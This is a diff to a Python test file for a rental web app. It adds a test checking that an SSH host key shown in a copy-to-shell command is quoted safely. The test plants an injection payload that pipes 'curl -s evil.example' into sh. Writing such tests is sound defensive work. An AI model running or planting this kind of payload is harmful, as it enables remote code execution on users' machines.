@@ -1,7 +1,10 @@
 """A renter's list, one rental's page, and who may see it."""
 
 import asyncio
+import html
 import json
+import re
+import shlex
 from collections.abc import AsyncIterator, Callable
 from functools import partial
 from uuid import uuid4
@@ -96,6 +99,19 @@ def test_the_host_key_shows_as_ssh_asks_about_it(
     page = renter.get(f"/rentals/{rental.id}/").content.decode()
     assert '<code id="fingerprint">SHA256:' in page
     assert "[127.0.0.1]:20001 ssh-ed25519 AAAA" in page
+
+
+def test_a_host_key_in_a_command_to_copy_is_one_word_to_the_shell(
+    renter: Client, rental: Rental, market: Market
+) -> None:
+    market.run(rental, at=scene.after(1))
+    evil = f"{scene.HOST_KEY} x' ; curl -s evil.example | sh ; echo '"
+    Placement.objects.update(ssh_host_key=evil)
+    page = renter.get(f"/rentals/{rental.id}/").content.decode()
+    shown = re.search(r'id="trust-command">(.*?)</code>', page)
+    assert shown is not None
+    words = shlex.split(html.unescape(shown[1]))
+    assert words == ["echo", f"[127.0.0.1]:20001 {evil}", ">>", "~/.ssh/known_hosts"]
 
 
 def test_an_active_rental_whose_door_is_shut_says_that_it_costs_nothing(
